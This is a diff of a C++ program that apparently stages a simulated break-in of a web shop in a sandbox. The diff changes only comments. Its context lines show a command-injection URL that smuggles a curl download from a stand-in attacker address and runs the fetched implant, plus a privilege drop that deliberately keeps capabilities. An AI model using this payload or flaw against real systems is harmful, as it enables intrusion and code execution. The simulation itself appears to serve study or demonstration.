@@ -52,7 +52,7 @@ constexpr const char* kAccessLog = "/var/log/nginx/access.log";
 constexpr const char* kImplant = "/tmp/.u";
 constexpr const char* kArchive = "/tmp/.d";
 
-// What the attacker asks the shop for, and what the shop makes of it.
+// The attacker's request, and the command that the shop makes of it.
 constexpr const char* kExploit =
     "/track?id=7;curl+-so+/tmp/.u+http://203.0.113.66/u+%26%26+chmod+%2Bx+/tmp/.u+%26%26+/tmp/.u";
 
@@ -199,7 +199,7 @@ void answer(int client, int log) {
   write_all(log, std::string(kClient) + " \"GET " + std::string(target) + "\" " + status.substr(0, 3) + "\n");
 }
 
-// Becomes nobody. Its mistake: it keeps the right to become somebody else, and so do its children.
+// Changes to the user nobody. Its mistake: it and its children keep the capability to change users again.
 void drop_rights() {
   check(::prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0), "PR_SET_KEEPCAPS");
   check(::syscall(SYS_setgroups, 0, nullptr), "setgroups");
@@ -344,9 +344,9 @@ int play_part(std::string_view name, const std::vector<const char*>& args) {
   return 2;
 }
 
-// --- The stage, and who is not of the shop.
+// --- The environment, and actors outside the shop.
 
-// The attacker's host: hands out the program, and takes what it gets.
+// The attacker's host: serves the program and receives the stolen data.
 [[noreturn]] void attacker(const std::string& program) {
   pollfd listeners[] = {{listener_at(kAttacker, kDownloadPort), POLLIN, 0},
                         {listener_at(kAttacker, kCommandPort), POLLIN, 0}};
@@ -408,7 +408,7 @@ void enter_root(const std::string& program) {
   place("/tmp/dev/null", "");
   check(::mount("/dev/null", "/tmp/dev/null", nullptr, MS_BIND, nullptr), "mount /dev/null");
   check(::chdir("/tmp"), "chdir");
-  // The old root lies on top of the new one, and is taken away.
+  // Unmounts the old root, which is mounted over the new one.
   check(::syscall(SYS_pivot_root, ".", "."), "pivot_root");
   check(::umount2(".", MNT_DETACH), "umount");
   check(::chdir("/"), "chdir");
